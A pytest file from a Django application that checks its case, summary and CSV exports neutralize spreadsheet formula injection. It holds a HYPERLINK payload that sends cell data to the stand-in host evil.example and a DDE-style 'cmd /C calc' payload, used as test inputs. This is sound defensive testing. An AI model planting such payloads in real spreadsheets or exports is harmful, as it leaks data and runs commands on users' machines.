"""Audit finding 6 for the exports outside the situational center: the ЦУР export (export-cases,
CSV and XLSX), the summary of problems (XLSX) and the predictions CSV never carry a live formula."""

from __future__ import annotations

import csv
from datetime import date
from io import BytesIO
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from otklik.analytics.exports import summary_xlsx
from otklik.cases.models import Case
from otklik.intake.importing import export_cur43
from otklik.testing.factories import make_agency, make_case

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Подробнее")'


def no_formula_cells(sheet) -> list:
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    return [cell.value for cell in cells]


def test_the_cur_export_neutralizes_every_column(tmp_path):
    make_case(agency=make_agency(name=EVIL), text=f"{EVIL} и яма во дворе")
    export_cur43(Case.objects.all(), tmp_path / "cases.csv")
    rows = list(csv.reader((tmp_path / "cases.csv").open(encoding="utf-8")))
    values = [v for row in rows[1:] for v in row]
    assert "'" + EVIL in values  # the agency's column
    assert all(not v.startswith(("=", "+", "@", "\t", "\r")) for v in values)
    export_cur43(Case.objects.all(), tmp_path / "cases.xlsx")
    values = no_formula_cells(load_workbook(tmp_path / "cases.xlsx").active)
    assert EVIL in values


def test_the_summary_spreadsheet_has_no_live_formula():
    problem = SimpleNamespace(
        label=EVIL,
        cases=1,
        messages=1,
        open=1,
        overdue=0,
        resolved=0,
        previous=0,
        change=None,
        trend="new",
        examples=["@SUM(1+1)*cmd|' /C calc'!A0", "нет воды"],
    )
    summary = SimpleNamespace(
        scope=SimpleNamespace(date_from=date(2026, 3, 1), date_to=date(2026, 3, 7)),
        territory_name="-Энгельс",
        cases=1,
        messages=1,
        open=1,
        overdue=0,
        resolved=0,
        problems=[problem],
    )
    values = no_formula_cells(load_workbook(BytesIO(summary_xlsx(summary))).active)
    assert EVIL in values
